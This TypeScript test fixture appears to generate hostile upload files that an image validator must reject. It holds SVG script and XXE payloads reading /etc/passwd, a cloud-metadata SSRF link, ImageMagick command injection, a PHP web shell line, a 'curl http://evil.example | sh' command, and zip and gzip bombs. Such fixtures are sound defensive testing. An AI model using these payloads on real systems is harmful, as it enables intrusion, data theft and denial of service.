// Files that are no picture to be shown: each must be refused.
import { deflateRawSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { damagedPictures, type Files, script } from './damaged.ts';
import { uint32 } from './png.ts';

const svg = (body: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${body}</svg>`;
const entities = '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const drawings: Files = {
    'svg script': svg(script),
    'svg onload': svg('', 'onload="alert(1)"'),
    'svg foreign object': svg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`
    ),
    'svg link': svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
    'svg file': svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    'svg address': svg('<image xlink:href="http://169.254.169.254/latest" width="9" height="9"/>'),
    'svg xxe': entities + svg('<text>&xxe;</text>'),
    'svg billion laughs': `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('<text>&l9;</text>')}`,
    'svg with a mark': `\ufeff<?xml version="1.0"?>${svg(script)}`,
    'svg after spaces': `${' \n'.repeat(400)}${svg(script)}`,
    'svg after a comment': `<!-- ${'x'.repeat(5000)} -->${svg(script)}`,
    'svg in 16 bits': Buffer.from(`\ufeff${svg(script)}`, 'utf16le'),
    'svg packed': gzipSync(svg(script)),
    'svg enormous': svg('', 'width="100000" height="100000"')
};

const documents: Files = {
    html: `<!doctype html><html><body>${script}</body></html>`,
    'html fragment': script,
    'html after a magic word': `PNG\n${script}`,
    xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    mhtml: `MIME-Version: 1.0\nContent-Type: multipart/related\n\n${script}`,
    pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
    'pdf later': `${' '.repeat(500)}%PDF-1.4\n%%EOF`,
    postscript: '%!PS-Adobe-3.0 EPSF-3.0\n(x) show',
    'image magick script':
        'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://evil.example/"|id")\'\npop graphic-context',
    'image magick text': '<?xml version="1.0"?><image><read filename="caption:@/etc/passwd"/></image>',
    'xpm picture': '/* XPM */ static char *x[]={"1 1 1 1","a c red","a"};',
    php: '<?php system($_GET["c"]); ?>',
    shell: '#!/bin/sh\ncurl http://evil.example | sh',
    javascript: 'alert(1)//',
    json: '{"path":"/etc/passwd"}',
    rtf: '{\\rtf1 x}',
    text: 'This is no picture.',
    'a name': '/etc/passwd',
    empty: '',
    'one byte': '\x89',
    zeros: Buffer.alloc(100_000),
    ones: Buffer.alloc(100_000, 0xff)
};

const brands = [
    'heic',
    'heix',
    'hevc',
    'mif1',
    'msf1',
    'avif',
    'avis',
    'mp42',
    'isom',
    'qt  ',
    'crx ',
    'jxl '
];
const heif = (brand: string) =>
    Buffer.concat([uint32(24), Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`), Buffer.alloc(500)]);

const unpacked = 64 * 1024 * 1024;

const zipBomb = (name: string, packed: Buffer) => {
    const head = Buffer.alloc(30);
    head.write('PK\u0003\u0004', 'latin1');
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(unpacked, 22);
    head.writeUInt16LE(name.length, 26);
    return Buffer.concat([head, Buffer.from(name), packed]);
};

/** Beginnings of other kinds of file, with nothing of use behind them. */
const beginnings: Record<string, string> = {
    gif87: 'GIF87a\u0001\0\u0001\0',
    'gif89 with a script': `GIF89a/*${script}*/=1;`,
    bmp: 'BM\u009a\0\0\0\0\0\0\0',
    ico: '\0\0\u0001\0\u0001\0',
    'tiff little': 'II*\0\b\0\0\0',
    'tiff big': 'MM\0*\0\0\0\b',
    bigtiff: 'II+\0\b\0\0\0',
    'raw of a camera': 'II*\0\u0010\0\0\0CR\u0002\0',
    photoshop: '8BPS\0\u0001\0\0',
    jpeg2000: '\0\0\0\fjP  \r\n\u0087\n',
    'jpeg xl': '\u00ff\n\u00fa',
    'jpeg xr': 'II\u00bc\u0001',
    pnm: 'P6\n60000 60000\n255\n',
    qoi: 'qoif\0\0\u0001\0\0\0\u0001\0',
    openexr: 'v/1\u0001\u0002\0\0\0',
    fits: 'SIMPLE  =                    T',
    dicom: `${'\0'.repeat(128)}DICM`,
    elf: '\u007fELF\u0002\u0001\u0001',
    windows: 'MZ\u0090\0\u0003',
    wasm: '\0asm\u0001\0\0\0',
    java: '\u00ca\u00fe\u00ba\u00be\0\0\0\u0034',
    gzip: '\u001f\u008b\b\0',
    bzip2: 'BZh91AY&SY',
    '7z': '7z\u00bc\u00af\u0027\u001c',
    rar: 'Rar!\u001a\u0007\u0001\0',
    sqlite: 'SQLite format 3\0',
    wav: 'RIFF\u0024\0\0\0WAVEfmt ',
    avi: 'RIFF\u0024\0\0\0AVI LIST',
    mp3: 'ID3\u0003\0\0\0\0\0\n',
    ogg: 'OggS\0\u0002',
    matroska: '\u001aE\u00df\u00a3',
    flac: 'fLaC\0\0\0\u0022',
    font: '\0\u0001\0\0\0\u000f',
    woff2: 'wOF2\0\u0001\0\0'
};

/** Pictures that are well made, of kinds that are not taken. */
async function otherKinds(): Promise<Files> {
    const red = sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } });
    const [gif, tiff, avif] = await Promise.all([
        red.clone().gif().toBuffer(),
        red.clone().tiff().toBuffer(),
        red.clone().avif({ effort: 0 }).toBuffer()
    ]);
    return { gif, 'gif with a script': Buffer.concat([gif, Buffer.from(script)]), tiff, avif };
}

/** By name, all files that must be refused. */
export async function hostileFiles() {
    const started = Object.entries(beginnings).map(([name, text]) => [
        name,
        Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(600)])
    ]);
    const nothing = Buffer.alloc(unpacked);
    const packed = deflateRawSync(nothing);
    const all: Files = {
        ...drawings,
        ...documents,
        ...Object.fromEntries(brands.map((brand) => [`ftyp ${brand}`, heif(brand)])),
        ...(Object.fromEntries(started) as Files),
        'zip bomb': zipBomb('[Content_Types].xml', packed),
        'zip bomb of an app': zipBomb('AndroidManifest.xml', packed),
        'gzip bomb': gzipSync(nothing),
        ...(await otherKinds()),
        ...(await damagedPictures())
    };
    return Object.entries(all).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes as string) }));
}
